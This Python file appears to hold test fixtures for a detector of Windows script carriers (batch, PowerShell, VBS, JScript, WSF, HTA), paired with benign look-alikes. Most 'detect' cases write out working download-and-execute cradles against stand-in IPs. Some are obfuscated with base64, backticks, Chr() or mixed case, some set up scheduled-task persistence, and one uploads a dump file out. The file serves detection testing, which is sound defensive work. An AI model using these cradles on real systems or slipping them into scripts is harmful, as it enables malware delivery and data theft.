# Windows carriers shipped in images: batch, powershell, wsh-vbs, wsh-js, wsf, hta.
from common import C, ps_enc

LOL = "LOLBAS"
SIG = "Sigma"

# ================================================================ batch: detect
C("h2-bat-certutil-verifyctl-01", LOL + " Certutil -verifyctl -split -f", "batch",
  "/opt/win/tools/refresh.cmd", "detect", r"""@echo off
certutil -verifyctl -split -f http://198.51.100.90/update.exe
move /y update.exe "%ProgramData%\upd\update.exe"
""")

C("h2-bat-bitsadmin-download-priority-02", SIG + " 'File Download Via Bitsadmin' (/download /priority)", "batch",
  "/opt/win/scripts/get-agent.bat", "detect", r"""@echo off
bitsadmin /download /priority foreground http://203.0.113.16/agent.exe "%APPDATA%\agent.exe"
start "" "%APPDATA%\agent.exe"
""")

C("h2-bat-bitsadmin-setnotify-03", LOL + " Bitsadmin job with /SetNotifyCmdLine", "batch",
  "/opt/win/scripts/bits-job.cmd", "detect", r"""bitsadmin /create upd
bitsadmin /addfile upd http://198.51.100.92/u.exe C:\Users\Public\u.exe
bitsadmin /SetNotifyCmdLine upd C:\Users\Public\u.exe NULL
bitsadmin /resume upd
""")

C("h2-bat-curl-exec-combo-04", SIG + " 'Curl Download And Execute Combination'", "batch",
  "/opt/win/scripts/setup-tools.cmd", "detect", r"""@echo off
cmd /c curl -s -o %TEMP%\setup.exe http://203.0.113.17/setup.exe & start /b %TEMP%\setup.exe
""")

C("h2-bat-set-var-url-05", "batch: URL held in a variable (set / %var%)", "batch",
  "/opt/win/deploy/install.bat", "detect", r"""@echo off
setlocal
set "SRV=http://198.51.100.93:8080"
set "OUT=%LOCALAPPDATA%\Temp\svc.exe"
certutil.exe -urlcache -f %SRV%/svc.exe "%OUT%" >nul
"%OUT%" /install
endlocal
""")

C("h2-bat-delayed-expansion-06", "batch: delayed expansion !var! in a for loop download", "batch",
  "/opt/win/deploy/multi.cmd", "detect", r"""@echo off
setlocal EnableDelayedExpansion
for %%f in (a.dll b.dll) do (
  set "u=http://203.0.113.18/mods/%%f"
  curl.exe -k -s -o "C:\ProgramData\mods\%%f" "!u!"
)
""")

C("h2-bat-powershell-bypass-iwr-07", "batch launching powershell -ExecutionPolicy Bypass iwr + Start-Process", "batch",
  "/opt/win/deploy/launch.bat", "detect", r"""@echo off
powershell.exe -NoP -NonI -ExecutionPolicy Bypass -Command "& {Invoke-WebRequest -Uri 'http://198.51.100.94/p.exe' -OutFile $env:TEMP\p.exe; Start-Process $env:TEMP\p.exe}"
""")

C("h2-bat-powershell-enc-short-08", "batch: powershell -e <base64> (short flag)", "batch",
  "/opt/win/deploy/run.cmd", "detect", "@echo off\npowershell -w hidden -e " +
  ps_enc("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.19/a.ps1')") + "\n")

C("h2-bat-schtasks-curl-ps-09", SIG + " 'Scheduled Task Creation with Curl and PowerShell Execution Combo'", "batch",
  "/opt/win/persist/task.bat", "detect", r"""schtasks /create /f /sc minute /mo 30 /tn "OneDrive Sync" /tr "cmd /c curl -s http://198.51.100.95/t.ps1 | powershell -"
""")

C("h2-bat-mshta-javascript-getobject-10", "mshta javascript: GetObject(\"script:http...\")", "batch",
  "/opt/win/persist/m.cmd", "detect", r"""mshta javascript:a=(GetObject("script:http://203.0.113.20/m.sct")).Exec();close();
""")

C("h2-bat-rundll32-mshtml-11", "rundll32 javascript:..\\mshtml,RunHTMLApplication with script: URL", "batch",
  "/opt/win/persist/r.bat", "detect", r"""rundll32.exe javascript:"\..\mshtml,RunHTMLApplication ";document.write();GetObject("script:http://198.51.100.96/r.sct")
""")

C("h2-bat-wmic-xsl-12", "wmic /format: remote XSL (squiblytwo)", "batch",
  "/opt/win/persist/w.cmd", "detect", r"""wmic os get /format:"http://203.0.113.21/payload.xsl"
""")

C("h2-bat-certoc-getcacaps-13", LOL + " CertOC -GetCACAPS remote URL", "batch",
  "/opt/win/lolbas/certoc.bat", "detect", r"""certoc.exe -GetCACAPS http://198.51.100.97/s.ps1
""")

C("h2-bat-ieexec-14", LOL + " / " + SIG + " IEExec download and execute", "batch",
  "/opt/win/lolbas/ieexec.bat", "detect", r"""C:\Windows\Microsoft.NET\Framework64\v2.0.50727\ieexec.exe http://203.0.113.22/app.exe
""")

C("h2-bat-diantz-unc-15", LOL + " / " + SIG + " Diantz remote cab from UNC", "batch",
  "/opt/win/lolbas/diantz.cmd", "detect", r"""diantz.exe \\198.51.100.98\share\tool.exe C:\Users\Public\tool.cab
expand C:\Users\Public\tool.cab C:\Users\Public\tool.exe
""")

C("h2-bat-robocopy-unc-16", "robocopy from a UNC share on a remote host", "batch",
  "/opt/win/deploy/pull-share.bat", "detect", r"""@echo off
robocopy \\fileserver.corp.example\drop C:\ProgramData\drop implant.exe /NJH /NJS
C:\ProgramData\drop\implant.exe
""")

C("h2-bat-xwizard-16b", LOL + " Xwizard RunWizard /z<url>", "batch",
  "/opt/win/lolbas/xwizard.cmd", "detect", r"""xwizard RunWizard {7940acf8-60ba-4213-a7c3-f3b400ee266d} /zhttp://203.0.113.23/x.exe
""")

C("h2-bat-configsecuritypolicy-17", LOL + " ConfigSecurityPolicy.exe download", "batch",
  "/opt/win/lolbas/csp.bat", "detect", r""""C:\Program Files\Windows Defender\ConfigSecurityPolicy.exe" http://198.51.100.99/p.zip
""")

C("h2-bat-squirrel-update-download-18", LOL + " Teams Update.exe / Squirrel --download", "batch",
  "/opt/win/lolbas/squirrel.cmd", "detect", r"""%LOCALAPPDATA%\Microsoft\Teams\Update.exe --download http://203.0.113.24/pkg/
""")

C("h2-bat-gup-download-19", SIG + " 'File Download Using Notepad++ GUP Utility'", "batch",
  "/opt/win/lolbas/gup.bat", "detect", r""""C:\Program Files\Notepad++\updater\GUP.exe" -unzipTo C:\Users\Public\x http://198.51.100.100/x.zip
""")

C("h2-bat-ftp-echo-script-20", LOL + " Ftp -s: with script built by echo (different layout)", "batch",
  "/opt/win/scripts/ftp-get.bat", "detect", r"""@echo off
> %TEMP%\f.txt echo open 203.0.113.25 21
>> %TEMP%\f.txt echo user anonymous guest
>> %TEMP%\f.txt echo binary
>> %TEMP%\f.txt echo get nc64.exe C:\ProgramData\nc64.exe
>> %TEMP%\f.txt echo bye
ftp -n -s:%TEMP%\f.txt
del %TEMP%\f.txt
""")

C("h2-bat-msiexec-q-remote-21", SIG + " 'MsiExec Web Install' (/q /i https)", "batch",
  "/opt/win/deploy/msi.cmd", "detect", r"""MSIEXEC.EXE /q /i "https://198.51.100.101/packages/agent.msi" REBOOT=ReallySuppress
""")

C("h2-bat-caps-certutil-fullpath-22", "upper-case, full path certutil with -split -urlcache", "batch",
  "/opt/win/deploy/CERT.BAT", "detect", r"""@ECHO OFF
C:\WINDOWS\SYSTEM32\CERTUTIL.EXE -SPLIT -URLCACHE -F HTTP://203.0.113.26/D.DLL C:\PROGRAMDATA\D.DLL
RUNDLL32.EXE C:\PROGRAMDATA\D.DLL,Start
""")

C("h2-bat-scrobj-generatetypelib-23", LOL + " rundll32 scrobj.dll,GenerateTypeLib <url>", "batch",
  "/opt/win/lolbas/scrobj.cmd", "detect", r"""rundll32.exe C:\Windows\System32\scrobj.dll,GenerateTypeLib http://198.51.100.102/t.exe
""")

# ================================================================ batch: silent
C("h2-bat-silent-certutil-decode-local-01", "look-alike: certutil -decode of a local file and -hashfile", "batch",
  "/opt/win/tools/verify.cmd", "silent", r"""@echo off
certutil -hashfile C:\ProgramData\app\app.exe SHA256
certutil -decode C:\ProgramData\app\license.b64 C:\ProgramData\app\license.lic
""")

C("h2-bat-silent-bitsadmin-list-02", "look-alike: bitsadmin /list and /reset (no transfer)", "batch",
  "/opt/win/tools/bits-clean.bat", "silent", r"""@echo off
bitsadmin /list /allusers /verbose
bitsadmin /reset
""")

C("h2-bat-silent-echo-instructions-03", "look-alike: echo of download instructions", "batch",
  "/opt/win/tools/readme.cmd", "silent", r"""@echo off
echo To update the agent, run from an elevated prompt:
echo    curl.exe -o agent.exe https://downloads.example.com/agent.exe
echo and then restart the service.
pause
""")

C("h2-bat-silent-local-robocopy-04", "look-alike: robocopy/xcopy between local drives", "batch",
  "/opt/win/tools/backup.bat", "silent", r"""@echo off
robocopy C:\AppData D:\Backup\AppData /MIR /R:1 /W:1
xcopy /E /I /Y C:\Config D:\Backup\Config
""")

C("h2-bat-silent-rem-double-colon-05", "look-alike: REM and :: commented download lines", "batch",
  "/opt/win/tools/old-setup.cmd", "silent", r"""@echo off
REM powershell -c "iwr http://198.51.100.94/p.exe -OutFile p.exe"
:: bitsadmin /transfer j http://198.51.100.94/p.exe C:\p.exe
start "" "C:\Program Files\App\app.exe"
""")

# ================================================================ powershell: detect
C("h2-ps-iwr-useb-iex-01", "PowerShell cradle: iwr -useb | iex", "powershell",
  "/opt/win/ps/bootstrap.ps1", "detect", r"""Set-ExecutionPolicy Bypass -Scope Process -Force
iwr -useb https://203.0.113.31/bootstrap.ps1 | iex
""")

C("h2-ps-wget-alias-outfile-02", "PowerShell alias wget -OutFile", "powershell",
  "/opt/win/ps/get-tool.ps1", "detect", r"""$dst = Join-Path $env:ProgramData 'tools\psexec.exe'
wget http://198.51.100.110/psexec.exe -OutFile $dst
& $dst -accepteula
""")

C("h2-ps-webclient-static-new-03", "[System.Net.WebClient]::new().DownloadString + iex", "powershell",
  "/opt/win/ps/loader.ps1", "detect", r"""$s = [System.Net.WebClient]::new().DownloadString("http://203.0.113.32/stage2.ps1")
Invoke-Expression $s
""")

C("h2-ps-scriptblock-create-irm-04", "&([scriptblock]::Create((irm ...)))", "powershell",
  "/opt/win/ps/modules.ps1", "detect", r"""& ([scriptblock]::Create((Invoke-RestMethod -Uri 'https://198.51.100.111/m.ps1'))) -Mode Install
""")

C("h2-ps-downloadfile-async-05", "WebClient.DownloadFileTaskAsync", "powershell",
  "/opt/win/ps/async-get.ps1", "detect", r"""$wc = New-Object System.Net.WebClient
$wc.Headers.Add('User-Agent', 'Mozilla/5.0')
$wc.DownloadFileTaskAsync('http://203.0.113.33/svc.exe', "$env:TEMP\svc.exe").Wait()
Start-Process "$env:TEMP\svc.exe" -WindowStyle Hidden
""")

C("h2-ps-uploadfile-06", "WebClient.UploadFile (push transfer)", "powershell",
  "/opt/win/ps/ship.ps1", "detect", r"""$wc = New-Object Net.WebClient
$wc.UploadFile('http://198.51.100.112/upload.php', 'POST', 'C:\ProgramData\dump.zip')
""")

C("h2-ps-backtick-obfuscation-07", "obfuscation: backticks inside cmdlet name", "powershell",
  "/opt/win/ps/obf1.ps1", "detect", r"""I`nv`oke-We`bReq`uest -Uri "http://203.0.113.34/a.exe" -OutFile "$env:PUBLIC\a.exe"
""")

C("h2-ps-string-concat-method-08", "obfuscation: method name built from string concatenation", "powershell",
  "/opt/win/ps/obf2.ps1", "detect", r"""$c = New-Object ('Net.' + 'WebClient')
$u = 'ht' + 'tp://198.51.100.113/' + 'p.ps1'
IEX ($c.('Download' + 'String').Invoke($u))
""")

C("h2-ps-frombase64-iex-09", "FromBase64String of a download cradle then iex", "powershell",
  "/opt/win/ps/obf3.ps1", "detect", "$b = '" + __import__("base64").b64encode(
      b"(New-Object Net.WebClient).DownloadFile('http://203.0.113.35/x.exe','C:\\Users\\Public\\x.exe')").decode() +
  "'\niex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($b)))\n")

C("h2-ps-child-encodedcommand-10", "ps1 starting a child powershell -EncodedCommand", "powershell",
  "/opt/win/ps/child.ps1", "detect", "Start-Process powershell.exe -WindowStyle Hidden -ArgumentList '-NoProfile','-EncodedCommand','" +
  ps_enc("Invoke-WebRequest http://198.51.100.114/b.exe -OutFile $env:TEMP\\b.exe; & $env:TEMP\\b.exe") + "'\n")

C("h2-ps-xmldocument-load-11", SIG + " download cradle: System.Xml.XmlDocument.Load(url)", "powershell",
  "/opt/win/ps/xmlcradle.ps1", "detect", r"""$x = New-Object System.Xml.XmlDocument
$x.Load('http://203.0.113.36/c.xml')
IEX $x.command.a.execute
""")

C("h2-ps-ie-com-navigate-12", SIG + " COM cradle: InternetExplorer.Application", "powershell",
  "/opt/win/ps/iecradle.ps1", "detect", r"""$ie = New-Object -ComObject InternetExplorer.Application
$ie.Visible = $false
$ie.Navigate('http://198.51.100.115/p.txt')
while ($ie.Busy) { Start-Sleep -Milliseconds 100 }
IEX $ie.Document.body.innerText
$ie.Quit()
""")

C("h2-ps-windowsinstaller-com-13", SIG + " 'PowerShell MSI Install via WindowsInstaller COM From Remote Location'", "powershell",
  "/opt/win/ps/msi-com.ps1", "detect", r"""$i = New-Object -ComObject WindowsInstaller.Installer
$i.UILevel = 2
$i.InstallProduct('http://203.0.113.37/pkg.msi', 'ACTION=INSTALL')
""")

C("h2-ps-httpwebrequest-stream-14", "[Net.HttpWebRequest] + response stream to file", "powershell",
  "/opt/win/ps/stream.ps1", "detect", r"""$req = [System.Net.HttpWebRequest]::Create('http://198.51.100.116/t.dll')
$resp = $req.GetResponse()
$fs = [System.IO.File]::Create('C:\ProgramData\t.dll')
$resp.GetResponseStream().CopyTo($fs)
$fs.Close()
""")

C("h2-ps-iwr-content-writeallbytes-15", "iwr Content saved with [IO.File]::WriteAllBytes", "powershell",
  "/opt/win/ps/bytes.ps1", "detect", r"""$r = Invoke-WebRequest -UseBasicParsing -Method Get -Uri http://203.0.113.38/r.bin
[IO.File]::WriteAllBytes("$env:APPDATA\r.bin", $r.Content)
""")

C("h2-ps-copy-item-unc-16", "Copy-Item from a UNC path on a remote host", "powershell",
  "/opt/win/ps/unc-pull.ps1", "detect", r"""Copy-Item -Path '\\198.51.100.117\c$\Windows\Temp\beacon.exe' -Destination 'C:\Windows\Temp\beacon.exe'
Start-Process 'C:\Windows\Temp\beacon.exe'
""")

C("h2-ps-irm-var-uri-17", "irm with URL in a variable far from the call", "powershell",
  "/opt/win/ps/config-sync.ps1", "detect", r"""param([string]$Environment = 'prod')

$ErrorActionPreference = 'Stop'
$ConfigRoot = 'C:\ProgramData\App\config'
$SyncUri = "http://203.0.113.39/cfg/$Environment/sync.ps1"

function Write-Log([string]$m) {
    Add-Content -Path "$ConfigRoot\sync.log" -Value ("{0:o} {1}" -f (Get-Date), $m)
}

function Test-Config {
    Get-ChildItem $ConfigRoot -Filter *.json | ForEach-Object {
        try { Get-Content $_.FullName -Raw | ConvertFrom-Json | Out-Null }
        catch { Write-Log "bad json: $($_.Exception.Message)" }
    }
}

New-Item -ItemType Directory -Force -Path $ConfigRoot | Out-Null
Test-Config
Write-Log 'starting sync'
$code = irm $SyncUri
Invoke-Expression $code
Write-Log 'sync done'
""")

C("h2-ps-start-process-msiexec-18", "Start-Process msiexec /i http URL", "powershell",
  "/opt/win/ps/install-msi.ps1", "detect", r"""Start-Process msiexec.exe -ArgumentList '/i http://198.51.100.118/agent.msi /qn' -Wait
""")

C("h2-ps-curl-exe-explicit-19", "curl.exe (not the alias) inside PowerShell, -k -o", "powershell",
  "/opt/win/ps/curl-exe.ps1", "detect", r"""& "$env:SystemRoot\System32\curl.exe" -k -s -o "$env:TEMP\u.exe" https://203.0.113.40/u.exe
& "$env:TEMP\u.exe"
""")

C("h2-ps-openread-20", "WebClient.OpenRead stream into file", "powershell",
  "/opt/win/ps/openread.ps1", "detect", r"""$s = (New-Object Net.WebClient).OpenRead('http://198.51.100.119/lib.dll')
$f = [IO.File]::OpenWrite('C:\Users\Public\lib.dll')
$s.CopyTo($f); $f.Close(); $s.Close()
""")

C("h2-ps-mixed-case-iex-21", "case variation and aliases: InVoKe-ExPrEsSiOn / nEw-ObJeCt", "powershell",
  "/opt/win/ps/case.psm1", "detect", r"""function Initialize-Module {
    InVoKe-ExPrEsSiOn (nEw-ObJeCt sYsTeM.nEt.WeBcLiEnT).dOwNlOaDsTrInG('http://203.0.113.41/i.ps1')
}
Export-ModuleMember -Function Initialize-Module
""")

# ================================================================ powershell: silent
C("h2-ps-silent-invoke-restmethod-local-01", "look-alike: Invoke-RestMethod to localhost API", "powershell",
  "/opt/win/ps/local-api.ps1", "silent", r"""$status = Invoke-RestMethod -Uri 'http://localhost:5000/api/status'
if ($status.ok) { Write-Output 'service healthy' }
Invoke-WebRequest -Uri 'http://127.0.0.1:5000/metrics' -UseBasicParsing | Select-Object -ExpandProperty StatusCode
""")

C("h2-ps-silent-get-help-02", "look-alike: Get-Help / Get-Command for transfer cmdlets", "powershell",
  "/opt/win/ps/docs.ps1", "silent", r"""Get-Help Invoke-WebRequest -Examples
Get-Command Start-BitsTransfer -ErrorAction SilentlyContinue
Get-Alias -Definition Invoke-WebRequest
""")

C("h2-ps-silent-local-copy-03", "look-alike: Copy-Item / Expand-Archive of local files", "powershell",
  "/opt/win/ps/local-copy.ps1", "silent", r"""Expand-Archive -Path C:\Install\tools.zip -DestinationPath C:\Tools -Force
Copy-Item C:\Install\config.json C:\ProgramData\App\config.json
""")

C("h2-ps-silent-comment-help-04", "look-alike: comment-based help with .EXAMPLE download", "powershell",
  "/opt/win/ps/Get-Thing.ps1", "silent", r"""<#
.SYNOPSIS
  Installs Thing from a local package.
.EXAMPLE
  # the old way was:
  # (New-Object Net.WebClient).DownloadFile('https://example.com/thing.exe','thing.exe')
  .\Get-Thing.ps1 -Package C:\Install\thing.zip
#>
param([string]$Package)
Expand-Archive $Package -DestinationPath "$env:ProgramFiles\Thing"
""")

C("h2-ps-silent-write-output-05", "look-alike: Write-Output / Write-Warning with iwr text", "powershell",
  "/opt/win/ps/hint.ps1", "silent", r"""Write-Warning 'Thing is missing.'
Write-Output "Run: iwr https://get.example.com/thing.ps1 -UseBasicParsing | iex"
""")

# ================================================================ wsh-vbs
C("h2-vbs-msxml2-serverxmlhttp-stream-01", "VBS Msxml2.ServerXMLHTTP.6.0 + ADODB.Stream SaveToFile", "wsh-vbs",
  "/opt/win/wsh/upd.vbs", "detect", r"""Dim h, s
Set h = CreateObject("Msxml2.ServerXMLHTTP.6.0")
h.open "GET", "http://203.0.113.42/u.exe", False
h.send
Set s = CreateObject("ADODB.Stream")
s.Type = 1
s.Open
s.Write h.responseBody
s.SaveToFile "C:\Users\Public\u.exe", 2
s.Close
CreateObject("WScript.Shell").Run "C:\Users\Public\u.exe", 0, False
""")

C("h2-vbs-shell-exec-bitsadmin-02", "VBS WScript.Shell.Exec bitsadmin /transfer", "wsh-vbs",
  "/opt/win/wsh/bits.vbs", "detect", r"""Set sh = CreateObject("WScript.Shell")
sh.Exec "bitsadmin /transfer myjob /download /priority high http://198.51.100.120/b.exe C:\ProgramData\b.exe"
""")

C("h2-vbs-chr-obfuscated-url-03", "VBS URL built with Chr() concatenation, Microsoft.XMLHTTP", "wsh-vbs",
  "/opt/win/wsh/chr.vbs", "detect", r"""u = Chr(104) & Chr(116) & Chr(116) & Chr(112) & "://203.0.113.43/p.txt"
Set x = CreateObject("Microsoft.XMLHTTP")
x.Open "GET", u, False
x.Send
Execute x.responseText
""")

C("h2-vbs-shellexecute-mshta-04", "VBS Shell.Application ShellExecute mshta remote hta", "wsh-vbs",
  "/opt/win/wsh/sa.vbs", "detect", r"""Set a = CreateObject("Shell.Application")
a.ShellExecute "mshta.exe", "http://198.51.100.121/page.hta", "", "open", 0
""")

C("h2-vbs-winhttp-option-05", "VBS WinHttp.WinHttpRequest.5.1 with proxy-ignore option", "wsh-vbs",
  "/opt/win/wsh/wh.vbs", "detect", r"""Set w = CreateObject("WinHttp.WinHttpRequest.5.1")
w.Option(4) = 13056
w.Open "GET", "https://203.0.113.44/mod.dll", False
w.Send
Set st = CreateObject("ADODB.Stream")
st.Open: st.Type = 1: st.Write w.ResponseBody
st.SaveToFile CreateObject("WScript.Shell").ExpandEnvironmentStrings("%TEMP%") & "\mod.dll", 2
""")

C("h2-vbs-silent-msgbox-01", "look-alike: VBS message box telling user to download", "wsh-vbs",
  "/opt/win/wsh/notice.vbs", "silent", r"""MsgBox "Please download the new client from https://downloads.example.com and run setup.exe", vbInformation, "Update"
""")

C("h2-vbs-silent-wmi-query-02", "look-alike: VBS WMI query of local processes", "wsh-vbs",
  "/opt/win/wsh/procs.vbs", "silent", r"""Set wmi = GetObject("winmgmts:\\.\root\cimv2")
For Each p In wmi.ExecQuery("Select * from Win32_Process Where Name = 'curl.exe' or Name = 'bitsadmin.exe'")
  WScript.Echo p.Name & " " & p.ProcessId
Next
""")

# ================================================================ wsh-js
C("h2-wshjs-msxml2-xmlhttp-eval-01", "JScript Msxml2.XMLHTTP + eval", "wsh-js",
  "/opt/win/wsh/load.js", "detect", r"""var x = new ActiveXObject("Msxml2.XMLHTTP");
x.open("GET", "http://198.51.100.122/s.js", false);
x.send();
eval(x.responseText);
""")

C("h2-wshjs-shell-run-certutil-02", "JScript WScript.Shell.Run certutil", "wsh-js",
  "/opt/win/wsh/cu.js", "detect", r"""var sh = WScript.CreateObject("WScript.Shell");
sh.Run("certutil -urlcache -split -f http://203.0.113.45/c.exe %TEMP%\\c.exe && %TEMP%\\c.exe", 0, true);
""")

C("h2-wshjs-adodb-stream-bracket-03", "JScript bracket-notation obfuscation of open/send", "wsh-js",
  "/opt/win/wsh/br.js", "detect", r"""var o = new ActiveXObject("MSXML2.ServerXMLHTTP");
o["open"]("GET", "http://198.51.100.123/b.bin", false);
o["send"]();
var s = new ActiveXObject("ADODB.Stream");
s.Type = 1; s.Open(); s.Write(o.responseBody);
s.SaveToFile("C:\\ProgramData\\b.exe", 2);
""")

C("h2-wshjs-powershell-hidden-04", "JScript running hidden powershell DownloadFile", "wsh-js",
  "/opt/win/wsh/ps.js", "detect", r"""new ActiveXObject("WScript.Shell").Run("powershell -nop -w hidden -c \"(New-Object Net.WebClient).DownloadFile('http://203.0.113.46/d.exe','C:\\Users\\Public\\d.exe')\"", 0);
""")

C("h2-wshjs-silent-fso-01", "look-alike: JScript FileSystemObject local copy", "wsh-js",
  "/opt/win/wsh/fso.js", "silent", r"""var fso = new ActiveXObject("Scripting.FileSystemObject");
fso.CopyFile("C:\\App\\template.ini", "C:\\App\\app.ini", true);
WScript.Echo("copied");
""")

# ================================================================ wsf
C("h2-wsf-jscript-bitsadmin-01", "WSF JScript job running bitsadmin", "wsf",
  "/opt/win/wsh/job.wsf", "detect", r"""<package>
  <job id="main">
    <script language="JScript">
      var sh = new ActiveXObject("WScript.Shell");
      sh.Run("bitsadmin /transfer j http://198.51.100.124/j.exe C:\\Users\\Public\\j.exe", 0, true);
      sh.Run("C:\\Users\\Public\\j.exe", 0, false);
    </script>
  </job>
</package>
""")

C("h2-wsf-vbs-winhttp-02", "WSF VBScript WinHttp download", "wsf",
  "/opt/win/wsh/dl.wsf", "detect", r"""<?xml version="1.0"?>
<job id="dl">
<script language="VBScript">
<![CDATA[
Set r = CreateObject("WinHttp.WinHttpRequest.5.1")
r.Open "GET", "http://203.0.113.47/w.exe", False
r.Send
Set st = CreateObject("ADODB.Stream")
st.Type = 1: st.Open: st.Write r.ResponseBody
st.SaveToFile "C:\ProgramData\w.exe", 2
]]>
</script>
</job>
""")

C("h2-wsf-silent-echo-01", "look-alike: WSF that only echoes and reads registry", "wsf",
  "/opt/win/wsh/info.wsf", "silent", r"""<job id="info">
<script language="VBScript">
Set sh = CreateObject("WScript.Shell")
WScript.Echo sh.RegRead("HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\ProductName")
</script>
</job>
""")

# ================================================================ hta
C("h2-hta-powershell-iex-01", "HTA VBScript running powershell IEX cradle", "hta",
  "/opt/win/hta/invoice.hta", "detect", r"""<html>
<head>
<HTA:APPLICATION ID="inv" WINDOWSTATE="minimize" SHOWINTASKBAR="no">
<script language="VBScript">
Sub Window_OnLoad
  CreateObject("WScript.Shell").Run "powershell -nop -c " & Chr(34) & "IEX(New-Object Net.WebClient).DownloadString('http://198.51.100.125/i.ps1')" & Chr(34), 0
  self.close
End Sub
</script>
</head>
<body></body>
</html>
""")

C("h2-hta-jscript-winhttp-02", "HTA JScript WinHttp download + run", "hta",
  "/opt/win/hta/update.hta", "detect", r"""<html><head>
<hta:application applicationname="upd" border="none">
<script language="JScript">
var r = new ActiveXObject("WinHttp.WinHttpRequest.5.1");
r.Open("GET", "http://203.0.113.48/upd.exe", false); r.Send();
var s = new ActiveXObject("ADODB.Stream"); s.Type = 1; s.Open(); s.Write(r.ResponseBody);
s.SaveToFile("C:\\Users\\Public\\upd.exe", 2);
new ActiveXObject("WScript.Shell").Run("C:\\Users\\Public\\upd.exe");
window.close();
</script></head><body></body></html>
""")

C("h2-hta-silent-about-01", "look-alike: HTA about dialog with a hyperlink", "hta",
  "/opt/win/hta/about.hta", "silent", r"""<html><head><title>About</title>
<hta:application applicationname="about">
</head>
<body>
<p>Version 3.2 - see <a href="https://www.example.com/releases">release notes</a>.</p>
<button onclick="window.close()">OK</button>
</body></html>
""")
